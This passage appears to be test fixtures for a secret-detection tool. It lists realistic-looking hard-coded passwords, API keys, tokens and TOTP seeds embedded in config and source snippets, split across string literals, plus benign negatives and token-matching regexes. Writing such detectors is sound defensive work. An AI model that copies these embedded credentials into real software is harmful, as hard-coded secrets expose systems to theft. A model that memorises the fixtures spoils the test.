                "O5UI-@lZ"
                "?2%.ETZmt@D#6"
            ),
        ),
    ),
    SecretSample(
        "python-tuple-auth",
        "api.py",
        'requests.get(URL, auth=("svc", "HhuH'
        'rn8vcqooMeIx7l"))',
        (
            (
                "HhuH"
                "rn8vcqooMeIx7l"
            ),
        ),
    ),
    SecretSample(
        "python-paramiko",
        "dep.py",
        'ssh.connect("10.0.0.4", username="root", password="Zj5i'
        'PsKV1ZrfdFy2uVx")',
        (
            (
                "Zj5i"
                "PsKV1ZrfdFy2uVx"
            ),
        ),
    ),
    SecretSample(
        "python-smtp-login",
        "mail.py",
        'server.login("robot@silgoros.de", "SWT1'
        'plsOZiDnFLB1iar")',
        (
            (
                "SWT1"
                "plsOZiDnFLB1iar"
            ),
        ),
    ),
    SecretSample(
        "python-hmac",
        "sign.py",
        'sig = hmac.new(b"qVdx'
        'YjBHZkX1MpX9lvvwTE4O8e2gBJtLaPn8wlYu", body, hashlib.sha256).hexdigest()',
        (
            (
                "qVdx"
                "YjBHZkX1MpX9lvvwTE4O8e2gBJtLaPn8wlYu"
            ),
        ),
    ),
    SecretSample(
        "gmail-app-password",
        "mail.py",
        'EMAIL_HOST_PASSWORD = "luna zksw jbda psyh"',
        (
            "luna zksw jbda psyh",
        ),
    ),
    SecretSample(
        "js-jwt-sign",
        "auth.js",
        'jwt.sign(payload, "Dsv2'
        'zCeMo2n6WV4xEHIujRqOYtIrnmXVZOj64VBI", { expiresIn: "1h" });',
        (
            (
                "Dsv2"
                "zCeMo2n6WV4xEHIujRqOYtIrnmXVZOj64VBI"
            ),
        ),
    ),
    SecretSample(
        "js-object",
        "cfg.js",
        "module.exports = { sessionSecret: 'dFR5"
        "eDUqCQVRyjqDBC3Ri6u7wNdb9qTr', port: 3000 };",
        (
            (
                "dFR5"
                "eDUqCQVRyjqDBC3Ri6u7wNdb9qTr"
            ),
        ),
    ),
    SecretSample(
        "php-pdo",
        "db.php",
        "$pdo = new PDO('mysql:host=db;dbname=x', 'root', 'IEh5"
        "EfR8rieSUU7QXp7ktBqG');",
        (
            (
                "IEh5"
                "EfR8rieSUU7QXp7ktBqG"
            ),
        ),
    ),
    SecretSample(
        "php-array",
        "config.php",
        "'password' => 'fRm-_lBd"
        "9wNW?pRYx+829',",
        (
            (
                "fRm-_lBd"
                "9wNW?pRYx+829"
            ),
        ),
    ),
    SecretSample(
        "ruby-hash",
        "db.rb",
        'Mysql2::Client.new(host: "db", username: "app", password: "KtqF'
        'JP68iTaxNbOBwM2M")',
        (
            (
                "KtqF"
                "JP68iTaxNbOBwM2M"
            ),
        ),
    ),
    SecretSample(
        "kotlin-gradle",
        "build.gradle.kts",
        'storePassword = "WIck'
        'bClC04Pm6sS6HO3j"',
        (
            (
                "WIck"
                "bClC04Pm6sS6HO3j"
            ),
        ),
    ),
    SecretSample(
        "groovy-gradle",
        "build.gradle",
        "credentials { username 'ci'; password 'oFUj"
        "Zag9RqupxJdRc4uH6' }",
        (
            (
                "oFUj"
                "Zag9RqupxJdRc4uH6"
            ),
        ),
    ),
    SecretSample(
        "swift-literal",
        "Api.swift",
        'static let clientSecret = "CTXq'
        '6yhnS4fBitzWwyoKZue5xhQjjN7G3lYZzN0h"',
        (
            (
                "CTXq"
                "6yhnS4fBitzWwyoKZue5xhQjjN7G3lYZzN0h"
            ),
        ),
    ),
    SecretSample(
        "dart-literal",
        "api.dart",
        "const apiKey = 'QzGp"
        "AdL7Pe8Rau5rUTM3PjFOibITDruv';",
        (
            (
                "QzGp"
                "AdL7Pe8Rau5rUTM3PjFOibITDruv"
            ),
        ),
    ),
    SecretSample(
        "c-define",
        "wifi.h",
        '#define WIFI_PASSWORD "yXnN'
        '2VGVfa6UAgcTN5fvibg1iYsU"',
        (
            (
                "yXnN"
                "2VGVfa6UAgcTN5fvibg1iYsU"
            ),
        ),
    ),
    SecretSample(
        "arduino",
        "node.ino",
        'const char* mqtt_pass = "okWD'
        'iDQ4RxEI6HXUG";',
        (
            (
                "okWD"
                "iDQ4RxEI6HXUG"
            ),
        ),
    ),
    SecretSample(
        "elixir-config",
        "prod.exs",
        'config :app, AppWeb.Endpoint, secret_key_base: "W0Iz'
        'CQKAqT2e2Slv+/Ax9DIvShVDqrWzI2nimPvSMGg2UZjBHT0sQXXo+y5iBqUM"',
        (
            (
                "W0Iz"
                "CQKAqT2e2Slv+/Ax9DIvShVDqrWzI2nimPvSMGg2UZjBHT0sQXXo+y5iBqUM"
            ),
        ),
    ),
    SecretSample(
        "erlang-cookie",
        "vm.args",
        "-setcookie N5ds"
        "9abYUCBiA3ZmOqX2O",
        (
            (
                "N5ds"
                "9abYUCBiA3ZmOqX2O"
            ),
        ),
    ),
    SecretSample(
        "perl-dbi",
        "db.pl",
        'my $dbh = DBI->connect("dbi:Pg:dbname=x", "app", "YWuu'
        'ROU3xCnQMyt50IU");',
        (
            (
                "YWuu"
                "ROU3xCnQMyt50IU"
            ),
        ),
    ),
    SecretSample(
        "lua-literal",
        "conf.lua",
        'auth_secret = "y0vk'
        'qQ4H0U5f5JDIC31Ju4ajukXHCXmk"',
        (
            (
                "y0vk"
                "qQ4H0U5f5JDIC31Ju4ajukXHCXmk"
            ),
        ),
    ),
    SecretSample(
        "fixture-python",
        "tests/test_auth.py",
        'VALID = {"login": "root", "password": "gw5O'
        'iVTMF5eYCJdJum"}',
        (
            (
                "gw5O"
                "iVTMF5eYCJdJum"
            ),
        ),
    ),
    SecretSample(
        "fixture-yaml",
        "tests/fixtures/users.yml",
        "admin:\n"
        "  api_token: MoOC"
        "hQt0H9dsv9cIS0AdZF51550kPiGnq8XVzAXw",
        (
            (
                "MoOC"
                "hQt0H9dsv9cIS0AdZF51550kPiGnq8XVzAXw"
            ),
        ),
    ),
    SecretSample(
        "fixture-vcr",
        "spec/cassettes/pay.yml",
        "      Authorization:\n"
        "      - Bearer sk_live_"
        "51s2Kr4On82CeqXURY1oIXkwloNbyDzB2IK1AOqR8N0UReaC19DIMHzRhstK4lgfG7EFTQ7IAEJotngNyxKaYVp4"
        "nN3d81epdW0",
        (
            (
                "sk_live_"
                "51s2Kr4On82CeqXURY1oIXkwloNbyDzB2IK1AOqR8N0UReaC19DIMHzRhstK4lgfG7EFTQ7IAEJotngNyxKaYVp4"
                "nN3d81epdW0"
            ),
        ),
    ),
    SecretSample(
        "fixture-snapshot",
        "__snapshots__/a.snap",
        '"accessToken": "yMcs'
        'iXuIm2ycbmJMWZdd4HUy-FknHmpoKxpv5EdNvRbuIuln",',
        (
            (
                "yMcs"
                "iXuIm2ycbmJMWZdd4HUy-FknHmpoKxpv5EdNvRbuIuln"
            ),
        ),
    ),
    SecretSample(
        "nested-json-string",
        "task.json",
        '{"environment": [{"name": "API_TOKEN", "value": "l0QI'
        'E1ZsbsaMj92TqWnQwL1m6ea8WTy0d2QRZhjb"}]}',
        (
            (
                "l0QI"
                "E1ZsbsaMj92TqWnQwL1m6ea8WTy0d2QRZhjb"
            ),
        ),
    ),
    SecretSample(
        "diff-hunk",
        "change.patch",
        "-password: nvF0"
        "O39rJtCL2KAygj3Lk\n"
        "+password: ${DB_PASSWORD}",
        (
            (
                "nvF0"
                "O39rJtCL2KAygj3Lk"
            ),
        ),
    ),
    SecretSample(
        "wifi",
        "wpa_supplicant.conf",
        "network={\n"
        '  ssid="office"\n'
        '  psk="P8F0'
        'fd6KRK2k24dbGXMdbk"\n'
        "}",
        (
            (
                "P8F0"
                "fd6KRK2k24dbGXMdbk"
            ),
        ),
    ),
    SecretSample(
        "ipsec",
        "ipsec.secrets",
        '10.0.0.1 10.0.0.2 : PSK "Ps18'
        '3DRu6j5S7EwF5BYxgUYIfGYrLlQY"',
        (
            (
                "Ps18"
                "3DRu6j5S7EwF5BYxgUYIfGYrLlQY"
            ),
        ),
    ),
    SecretSample(
        "snmp",
        "snmpd.conf",
        "createUser monitor SHA ljYX"
        "1Rb9h3RJ71xC AES jnvH"
        "CsPSaxQLMOByyq3mVIaO4NAd",
        (
            (
                "ljYX"
                "1Rb9h3RJ71xC"
            ),
            (
                "jnvH"
                "CsPSaxQLMOByyq3mVIaO4NAd"
            ),
        ),
    ),
    SecretSample(
        "bind-tsig",
        "named.conf",
        'key "ddns" { algorithm hmac-sha256; secret "UxJG'
        'ANHdxaoUDcOf0CHG8UtQUTaQnv7PdS44gIxxjBe="; };',
        (
            (
                "UxJG"
                "ANHdxaoUDcOf0CHG8UtQUTaQnv7PdS44gIxxjBe"
            ),
        ),
    ),
    SecretSample(
        "cisco",
        "router.cfg",
        "enable secret 9 $9$X4mb"
        "1g.tzRRXuu$MLiC"
        "I5EzeWjn4s67.nPl6ggcUKfn4s0Ya3HHI5S6zAb",
        (
            (
                "$9$X4mb"
                "1g.tzRRXuu$MLiC"
                "I5EzeWjn4s67.nPl6ggcUKfn4s0Ya3HHI5S6zAb"
            ),
        ),
    ),
    SecretSample(
        "haproxy",
        "haproxy.cfg",
        "user admin insecure-password Y0yE"
        "l8UWtAXndBA4sY",
        (
            (
                "Y0yE"
                "l8UWtAXndBA4sY"
            ),
        ),
    ),
    SecretSample(
        "postfix-sasl",
        "sasl_passwd",
        "[smtp.zankucor.de]:587 robot:rdk0"
        "dbr1HGdaTV38E8m",
        (
            (
                "rdk0"
                "dbr1HGdaTV38E8m"
            ),
        ),
    ),
    SecretSample(
        "samba-fstab",
        "fstab",
        "//fs01/data /mnt cifs username=svc,password=sOmf"
        "17ITBRRR6wreONt0wHcKOJ30,vers=3.0 0 0",
        (
            (
                "sOmf"
                "17ITBRRR6wreONt0wHcKOJ30"
            ),
        ),
    ),
    SecretSample(
        "rclone",
        "rclone.conf",
        "[b2]\n"
        "type = b2\n"
        "key = K000vmM"
        "XueBj_cKha7eafduTMYX0E3c",
        (
            (
                "K000vmM"
                "XueBj_cKha7eafduTMYX0E3c"
            ),
        ),
    ),
    SecretSample(
        "s3cfg",
        ".s3cfg",
        "secret_key = qPaW"
        "n6/nAx3/H+Y5Jl3Bat1qa1CaUSZGL8CijC+g",
        (
            (
                "qPaW"
                "n6/nAx3/H+Y5Jl3Bat1qa1CaUSZGL8CijC+g"
            ),
        ),
    ),
    SecretSample(
        "restic",
        "backup.sh",
        "export RESTIC_PASSWORD='Z4aw1^1G"
        "#UpVfP'",
        (
            (
                "Z4aw1^1G"
                "#UpVfP"
            ),
        ),
    ),
    SecretSample(
        "ethereum-keystore-pass",
        "geth.sh",
        "geth account import --password <(echo XAJs"
        "FQU2euTYbMUDX5OxWZQhYhO) key.hex",
        (
            (
                "XAJs"
                "FQU2euTYbMUDX5OxWZQhYhO"
            ),
        ),
    ),
    SecretSample(
        "totp-secret",
        "mfa.py",
        'totp = pyotp.TOTP("4EAY4WBW'
        'D4D4JVL4Z4RTJNHOOSKQ2X7P")',
        (
            (
                "4EAY4WBW"
                "D4D4JVL4Z4RTJNHOOSKQ2X7P"
            ),
        ),
    ),
    SecretSample(
        "otpauth-url",
        "qr.txt",
        "otpauth://totp/ops?secret=ZKYBVMZH"
        "7AHI5N5WA3YMMWZJKJR2KE4Y&issuer=Git",
        (
            (
                "ZKYBVMZH"
                "7AHI5N5WA3YMMWZJKJR2KE4Y"
            ),
        ),
    ),
    SecretSample(
        "fernet",
        "crypto.py",
        'f = Fernet(b"MH7k'
        '6g5d6vO8EUBcVZDdd-fP0skBekwKzrNVN-lsK_f=")',
        (
            (
                "MH7k"
                "6g5d6vO8EUBcVZDdd-fP0skBekwKzrNVN-lsK_f"
            ),
        ),
    ),
    SecretSample(
        "license-key",
        "license.ini",
        "license_key=F81U4-68DFD-WLW0Z-92AQ6-AHUZW",
        (
            "F81U4-68DFD-WLW0Z-92AQ6-AHUZW",
        ),
    ),
    SecretSample(
        "url-userinfo-only",
        "feeds.txt",
        "https://KJ1A"
        "JM0xSrzdYOKuFlZy3AIoSQiYoer9@feeds.corquida.io/private.rss",
        (
            (
                "KJ1A"
                "JM0xSrzdYOKuFlZy3AIoSQiYoer9"
            ),
        ),
    ),
    SecretSample(
        "magic-link",
        "mail.html",
        '<a href="https://app.rosdelac.io/reset?reset_token=JNNR'
        'ZMQE6kFWqZ2IgtfurvrjhrbUlCoxANnWhsN1JEi">Reset</a>',
        (
            (
                "JNNR"
                "ZMQE6kFWqZ2IgtfurvrjhrbUlCoxANnWhsN1JEi"
            ),
        ),
    ),
    SecretSample(
        "npm-in-dockerfile",
        "Dockerfile",
        'RUN echo "//registry.npmjs.org/:_authToken=npm_FTZG'
        '7LN1FbBNQUY7PxP9pGaJxVM2UN3TR2ND" > ~/.npmrc',
        (
            (
                "npm_FTZG"
                "7LN1FbBNQUY7PxP9pGaJxVM2UN3TR2ND"
            ),
        ),
    ),
    SecretSample(
        "xoxb-in-code-comment",
        "bot.go",
        '// curl -H "Authorization: Bearer xoxb-8289'
        "73022810-1023"
        "94056384-cFmi"
        '9iySqnGX29b9juQ7QoMI"',
        (
            (
                "xoxb-8289"
                "73022810-1023"
                "94056384-cFmi"
                "9iySqnGX29b9juQ7QoMI"
            ),
        ),
    ),
    SecretSample(
        "maven-settings",
        "settings.xml",
        "<server><id>nexus</id><username>dep</username><password>{Wfpd"
        "IpUCS8r8CihaFoJVsOhtXWc2M1wJFN2/l2ag4pzw}</password></server>",
        (
            (
                "Wfpd"
                "IpUCS8r8CihaFoJVsOhtXWc2M1wJFN2/l2ag4pzw"
            ),
        ),
    ),
    SecretSample(
        "sonatype-token",
        "gradle.properties",
        "mavenCentralPassword=gorO"
        "tdf95Etl957qNo0LMo9e/4m5GbfMghmc33ebowfs",
        (
            (
                "gorO"
                "tdf95Etl957qNo0LMo9e/4m5GbfMghmc33ebowfs"
            ),
        ),
    ),
)

ORDINARY: tuple[tuple[str, str], ...] = (
    (
        "app/conf.py",
        'password = os.environ["PW"]',
    ),
    (
        "app/conf.py",
        'PASSWORD = os.getenv("DB_PASSWORD")',
    ),
    (
        "app/conf.py",
        "token = settings.API_TOKEN",
    ),
    (
        "app/conf.py",
        'secret_key = get_secret("prod/db/password")',
    ),
    (
        "app/conf.py",
        'api_key = config["services"]["mailer"]["api_key"]',
    ),
    (
        "app/conf.py",
        'password = getpass.getpass("Password: ")',
    ),
    (
        "app/conf.py",
        "password = None",
    ),
    (
        "app/conf.py",
        'password: str = ""',
    ),
    (
        "app/conf.py",
        "token: str | None = None",
    ),
    (
        "app/model.py",
        "token: str",
    ),
    (
        "app/model.py",
        "class PasswordResetTokenGenerator(BaseTokenGenerator):",
    ),
    (
        "app/model.py",
        "def validate_password_strength_and_history(password: str, user: User) -> bool:",
    ),
    (
        "app/model.py",
        "password = forms.CharField(widget=forms.PasswordInput, min_length=12)",
    ),
    (
        "app/model.py",
        "password_hash = Column(String(255), nullable=False)",
    ),
    (
        "app/model.py",
        "secret = secrets.token_urlsafe(32)",
    ),
    (
        "app/model.py",
        (
            "if password != confirm_password:\n"
            '    raise ValueError("passwords do not match")'
        ),
    ),
    (
        "app/model.py",
        'TOKEN_RE = re.compile(r"ghp_[A-Za-z0-9]{36}")',
    ),
    (
        "app/model.py",
        'PATTERN = r"(?i)aws_secret_access_key\\s*=\\s*[A-Za-z0-9/+=]{40}"',
    ),
    (
        "app/model.py",
        'SLACK = re.compile(r"xox[baprs]-[0-9]{10,13}-[0-9]{10,13}-[a-zA-Z0-9]{24}")',
    ),
    (
        "app/model.py",
        'log.debug("token refreshed for %s", user.id)',
    ),
    (
        "app/model.py",
        'access_token = response.json()["access_token"]',
    ),
    (
        "app/model.py",
        'password = user_input.strip().encode("utf-8")',
    ),
    (
        "app/model.py",
        'client = Client(os.environ["TWILIO_SID"], os.environ["TWILIO_TOKEN"])',
    ),
    (
        "app/model.py",
        "from authentication.password_hashers import Argon2PasswordHasher",
    ),
    (
        "app/model.py",
        "token_count = len(tokenizer.encode(prompt))",
    ),
    (
        "app/model.py",
        'max_tokens=4096, stop_token="<|endoftext|>"',
    ),
    (
        "app/model.py",
        'primary_key = ["tenant_id", "created_at", "sequence_number"]',
    ),
    (
        ".env.example",
        "DB_PASSWORD=changeme",
    ),
    (
        ".env.example",
        "API_KEY=your-api-key-here",
    ),
    (
        ".env.example",
        "SECRET_KEY=<your secret key>",
    ),
    (
        ".env.example",
        "STRIPE_SECRET_KEY=sk_test_xxxxxxxxxxxxxxxxxxxxxxxx",
    ),
    (
        ".env.example",
        "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    ),
    (
        ".env.example",
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    ),
    (
        ".env.example",
        "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    (
        ".env.example",
        "JWT_SECRET=",
    ),
    (
        ".env.example",
        "OPENAI_API_KEY=sk-...",
    ),
    (
        ".env.example",
        "SENTRY_AUTH_TOKEN=${SENTRY_AUTH_TOKEN}",
    ),
    (
        ".env",
        "PASSWORD=$DB_PASSWORD",
    ),
    (
        "docker-compose.yml",
        "      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?required}",
    ),
    (
        "docker-compose.yml",
        "      POSTGRES_PASSWORD_FILE: /run/secrets/postgres_password",
    ),
    (
        ".github/workflows/ci.yml",
        "      token: ${{ secrets.GITHUB_TOKEN }}",
    ),
    (
        ".github/workflows/ci.yml",
        "      - uses: actions/checkout@2f8316e840e43a9c6f81be061346b576694b0043",
    ),
    (
        ".github/workflows/ci.yml",
        "      id-token: write",
    ),
    (
        ".github/workflows/ci.yml",
        "      password: ${{ secrets.PYPI_API_TOKEN }}",
    ),
    (
        ".gitlab-ci.yml",
        '  - docker login -u "$CI_REGISTRY_USER" -p "$CI_REGISTRY_PASSWORD" "$CI_REGISTRY"',
    ),
    (
        "deploy.sh",
        'curl -H "Authorization: Bearer $TOKEN" "$API_URL/v1/me"',
    ),
    (
        "deploy.sh",
        'PGPASSWORD="$(cat /run/secrets/pg)" psql -h db -U app',
    ),
    (
        "deploy.sh",
        'mysql -u root -p"$MYSQL_ROOT_PASSWORD" < seed.sql',
    ),
    (
        "deploy.sh",
        'read -rsp "Password: " password',
    ),
    (
        "deploy.sh",
        'export VAULT_TOKEN="$(vault print token)"',
    ),
    (
        "deploy.sh",
        "sshpass -e ssh deploy@host uptime",
    ),
    (
        "deploy.sh",
        'gh auth token | docker login ghcr.io -u "$USER" --password-stdin',
    ),
    (
        "deploy.sh",
        (
            'echo "6d4b7c0dc26a9cd5ee8ce636b5127c903d8e8a5c5614fcd1cc2fab6684327fef  node-v20.11.1-li'
            'nux-x64.tar.xz" | sha256sum -c -'
        ),
    ),
    (
        "Jenkinsfile",
        "withCredentials([string(credentialsId: 'nexus-deploy-token', variable: 'NEXUS_TOKEN')]) {",
    ),
    (
        "ansible/vars.yml",
        'db_password: "{{ vault_db_password }}"',
    ),
    (
        "ansible/vars.yml",
        "db_password: \"{{ lookup('env', 'DB_PASSWORD') }}\"",
    ),
    (
        "helm/values.yaml",
        "existingSecret: postgres-credentials",
    ),
    (
        "helm/values.yaml",
        '  password: ""',
    ),
    (
        "helm/templates/deploy.yaml",
        "            secretKeyRef: {name: app-secrets, key: database-password}",
    ),
    (
        "k8s/deploy.yaml",
        (
            "image: registry.k8s.io/pause@sha256:c672b4819c9ef5676173a5b00d2ad2de517af07b1224c6ace660"
            "074f37bebe59"
        ),
    ),
    (
        "k8s/sa.yaml",
        "automountServiceAccountToken: false",
    ),
    (
        "k8s/secret.yaml",
        (
            "kind: ExternalSecret\n"
            "spec:\n"
            "  target:\n"
            "    name: app-database-credentials"
        ),
    ),
    (
        "main.tf",
        "password = var.db_password",
    ),
    (
        "main.tf",
        "secret_id = aws_secretsmanager_secret.database_credentials.id",
    ),
    (
        "main.tf",
        'token = data.vault_generic_secret.github.data["token"]',
    ),
    (
        "main.tf",
        (
            'variable "db_password" {\n'
            "  type      = string\n"
            "  sensitive = true\n"
            "}"
        ),
    ),
    (
        "application.yml",
        "password: ${DB_PASSWORD}",
    ),
    (
        "application.yml",
        "token-uri: https://id.acme.org/realms/main/protocol/openid-connect/token",
    ),
    (
        "application.properties",
        "spring.datasource.password=${SPRING_DATASOURCE_PASSWORD}",
    ),
    (
        "application.properties",
        "password.min.length=14",
    ),
    (
        "application.properties",
        "token.expiry.seconds=86400",
    ),
    (
        "appsettings.json",
        '"Main": "Server=(localdb)\\\\mssqllocaldb;Database=App;Trusted_Connection=True;"',
    ),
    (
        "CHANGELOG.md",
        "Fixed in 34f59a348b77754ef56ee8bf90ad68ebae92b5f9 (see #4182).",
    ),
    (
        "CHANGELOG.md",
        "* token refresh no longer races with logout (cd37f8c)",
    ),
    (
        "notes.md",
        "Merge commit 337ccac1af1f reverted the password change.",
    ),
    (
        "api.http",
        "GET /orders/aefd1f67-944f-4a99-b7ef-732a66a2b004",
    ),
    (
        "seed.json",
        '{"id": "983272a9-f68b-4875-8e1d-d6846e88d872", "name": "Widget"}',
    ),
    (
        "trace.log",
        "trace_id=b8c6bc739d6ac58c13ce07ac8e3a2f70 span_id=fa559e612f5143fa status=200",
    ),
    (
        "package-lock.json",
        (
            '"integrity": "sha512-rzEnG8WluxXp0PeAk3W+HmQeFKTZqV25mLixlI03q8991XJqugAQi1mENshkAt1iP2Q'
            'wdVuDG/Vg7xxJf1BJVO=="'
        ),
    ),
    (
        "package-lock.json",
        '"resolved": "https://registry.npmjs.org/jsonwebtoken/-/jsonwebtoken-9.0.2.tgz"',
    ),
    (
        "yarn.lock",
        (
            "token-types@^5.0.1:\n"
            '  resolved "https://registry.yarnpkg.com/token-types/-/token-types-5.0.1.tgz#37ecd2bbf88'
            '3cd3399ed4bc29203dae63f6796bc"'
        ),
    ),
    (
        "pnpm-lock.yaml",
        (
            "resolution: {integrity: sha512-x/P3Dcbe7WPlDHm64S4rmu1FgyhN1WGOSygED5SOpKif8rKFTXF+wYAOy"
            "WfgLIUkopM9A0v1NP5kq7c05P4zWA==}"
        ),
    ),
    (
        "poetry.lock",
        (
            '{file = "pyjwt-2.8.0-py3-none-any.whl", hash = "sha256:d46f427c8cfae87a7bd95a88eb68f6e2b'
            '84b4c07ae3bd7ad2420e3e0e942c750"},'
        ),
    ),
    (
        "requirements.txt",
        (
            "cryptography==42.0.5 --hash=sha256:e9e787aba1cbac27676d3578cbb43a6e1294dec20533a03a2c60b"
            "689e66c1859"
        ),
    ),
    (
        "Cargo.lock",
        'checksum = "0344486e6bd966761916645bc2a01086f5b0d7f9290020498689eae3315817c6"',
    ),
    (
        "go.sum",
        "golang.org/x/crypto v0.21.0 h1:Mog7AEkT8l2sTN9DSOHs3QXLW61Q86j1+8/eJ+gjEZc=",
    ),
    (
        "composer.lock",
        '"reference": "123e4db083efa86d5f62620d5a5e79552be6e77b",',
    ),
    (
        "Gemfile.lock",
        "revision: b50f91c3f94247eab6eacc00ffc97d79ffbf58f7",
    ),
    (
        "flake.lock",
        '"narHash": "sha256-mXTRksw0pPHYpnaWZ1HZ6U+XxpKwN6f96WvkpywGfrZ=",',
    ),
    (
        "Podfile.lock",
        "  Alamofire: a99e9c9dcfcf7f05591ed6ee77130b8fbc26c9ff",
    ),
    (
        "uv.lock",
        (
            'sdist = { url = "https://files.pythonhosted.org/packages/4e/35/9a2ae52f51e78130457ec18a6'
            'ce40e1bf306fb533230116c6f56c6b890f8/x-1.0.tar.gz", hash = "sha256:338003cfb9c2868e526869'
            '503202cfd601bfa1ae1fdfc0629569780d9f80a0cb" }'
        ),
    ),
    (
        "gradle/verification-metadata.xml",
        (
            '<sha256 value="7821b73623e00b2c9dc5b619e0484592d057991d84246dee8bf9d7292b6f21ec" origin='
            '"Generated by Gradle"/>'
        ),
    ),
    (
        "gradle-wrapper.properties",
        "distributionSha256Sum=c91087d1c29e6ffe1139c8eb1259228e6e3d0471bf0e9e1ea0ce44817a6425c0",
    ),
    (
        "web/index.html",
        (
            '<script src="https://cdn.acme.org/a.js" integrity="sha384-C8KzCyPEvl2aeLPE7fdNwR4CvqmXyO'
            'kmutkiOvVdzRFg9pR2eN0WEvG3qYkIZT2Y" crossorigin="anonymous"></script>'
        ),
    ),
    (
        "web/index.html",
        '<input type="password" name="password" autocomplete="current-password" required>',
    ),
    (
        "web/index.html",
        '<meta name="csrf-token" content="{{ csrf_token() }}">',
    ),
    (
        "web/index.html",
        '<label for="password">Password</label>',
    ),
    (
        "web/style.css",
        (
            "background: url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA6ND94tlbymzuYHxbn+O0F9qfnK"
            "jKsv2dKgIyzAVDsRuUB8VfgaeiKPfEc5g3G9CWwG7WaL/qELMgV/eH0eeLBQdowOzjd9L+LY66GA4BusIq/lGuQn"
            "LdL9yg7LZhIzh7G90jrx7tlWMZ51QKyi5hzbgrFpjFR6/q);"
        ),
    ),
    (
        "web/style.css",
        ".password-field--visible > .icon-eye{color:#3fa9f5;background:#0b1d2eff}",
    ),
    (
        "web/logo.svg",
        '<path d="M12.5 3.2c-4.1 0-7.4 3.3-7.4 7.4s3.3 7.4 7.4 7.4z" fill="#1a2b3c"/>',
    ),
    (
        "web/fonts.css",
        (
            "src:url(data:font/woff2;base64,d09GMgABAAAAAtp6sRbQ+LkF2DHpM1c3jMJx2OJl3F3LLSuNmptBcmT5T"
            "Xu0c2IpIG9Yqqxn8Hh16E/yg7+LYUvsUr+LJkM1xMqjP8P5neaABwXd/bcvJ/4st46cg45K80djxkdgGIf6JrTZT"
            "k3SE8/pt)"
        ),
    ),
    (
        "README.md",
        "![badge](https://img.shields.io/badge/token-required-blue.svg)",
    ),
    (
        "README.md",
        "Personal access tokens start with `ghp_` and are 40 characters long.",
    ),
    (
        "README.md",
        "Set `Authorization: Bearer <token>` on every request.",
    ),
    (
        "README.md",
        "The default password is stored in your keychain, not in this repository.",
    ),
    (
        "README.md",
        "Passwords must contain at least 12 characters and one digit.",
    ),
    (
        "README.md",
        "git clone https://github.com/acme/secret-scanner.git",
    ),
    (
        "README.md",
        "postgres://user:password@localhost:5432/db",
    ),
    (
        "README.md",
        "Use `--password-stdin` instead of `--password`.",
    ),
    (
        "docs/tokens.md",
        "Slack bot tokens look like `xoxb-...`; GitLab ones like `glpat-...`.",
    ),
    (
        "docs/tokens.md",
        (
            "| Prefix | Kind |\n"
            "|--------|------|\n"
            "| `sk_live_` | Stripe secret key |"
        ),
    ),
    (
        "docs/tokens.md",
        "AccountKey=<account-key>;EndpointSuffix=core.windows.net",
    ),
    (
        "docs/api.md",
        "https://api.acme.org/v1/search?q=password+reset&page=2&sort=created_at",
    ),
    (
        "docs/api.md",
        'curl -u "$USER:$TOKEN" https://api.acme.org/v1/items',
    ),
    (
        "locales/de.json",
        '"password": "Passwort eingeben"',
    ),
    (
        "locales/fr.json",
        '"password": "Saisissez votre mot de passe"',
    ),
    (
        "locales/es.yml",
        'password: "Contraseña"',
    ),
    (
        "locales/en.json",
        '"forgotPassword": "Forgot your password?"',
    ),
    (
        "locales/en.json",
        '"errors.token.expired": "Your session token has expired, please sign in again."',
    ),
    (
        "locales/ru.json",
        '"password": "Введите пароль"',
    ),
    (
        "locales/ja.json",
        '"password": "パスワードを入力してください"',
    ),
    (
        "locales/zh.json",
        '"secret": "请输入密钥"',
    ),
    (
        "locales/de.properties",
        "login.passwort.vergessen=Passwort vergessen?",
    ),
    (
        "locales/pt.json",
        '"senha": "Digite sua senha"',
    ),
    (
        "web/form.tsx",
        '<label>{t("auth.signIn.passwordConfirmationLabel")}</label>',
    ),
    (
        "web/form.tsx",
        'const [password, setPassword] = useState("");',
    ),
    (
        "web/form.tsx",
        "<PasswordInput value={password} onChange={(e) => setPassword(e.target.value)} />",
    ),
    (
        "web/form.ts",
        "interface Credentials { username: string; password: string; token?: string }",
    ),
    (
        "web/form.ts",
        'const token = localStorage.getItem("access_token");',
    ),
    (
        "web/form.ts",
        "const secret = process.env.SESSION_SECRET!;",
    ),
    (
        "web/form.ts",
        'export const enum TokenKind { AccessToken = "access_token", RefreshToken = "refresh_token" }',
    ),
    (
        "web/form.ts",
        "if (token.kind === SyntaxKind.OpenBraceToken) return parseObjectLiteral(token);",
    ),
    (
        "web/form.ts",
        "headers: { Authorization: `Bearer ${accessToken}` },",
    ),
    (
        "web/form.ts",
        "const isValid = await bcrypt.compare(password, user.passwordHash);",
    ),
    (
        "web/form.spec.ts",
        'login({ username: "test", password: "password" });',
    ),
    (
        "web/form.spec.ts",
        'expect(screen.getByLabelText("Password")).toHaveAttribute("type", "password");',
    ),
    (
        "tests/test_login.py",
        'client.login(username="alice", password="secret")',
    ),
    (
        "tests/test_login.py",
        'password = "test"',
    ),
    (
        "tests/test_login.py",
        'assert hash_password("password123") != "password123"',
    ),
    (
        "tests/test_login.py",
        'monkeypatch.setenv("API_TOKEN", "dummy-token")',
    ),
    (
        "tests/test_login.py",
        'TOKEN = "fake-token-for-tests"',
    ),
    (
        "web/min.js",
        (
            '!function(e,t){"object"==typeof exports?module.exports=t():e.tokenize=t()}(this,function'
            "(){return function(e){var t={};return e(t)}});"
        ),
    ),
    (
        "web/min.js",
        (
            'var n=r(1),o=n.password||"",i=n.token?n.token.length:0;for(let s=0;s<i;s++)a+=String.fro'
            "mCharCode(n.token.charCodeAt(s)^s);"
        ),
    ),
    (
        "web/app.js.map",
        '"mappings":"AAAA,SAASA,EAAMC,GACb,OAAOA,EAAEC,MAAM,KAAKC,IAAI,SAAUC,GAAK,OAAOA,EAAEC"',
    ),
    (
        "dist/main.8f3a1c2e.js.txt",
        '<script src="/static/js/main.df249335.chunk.js"></script>',
    ),
    (
        "keys/id.pub",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIZ8gDS+OPu089tzggmUh2247EHJM2WnUR5C3sx7megtq ops@host",
    ),
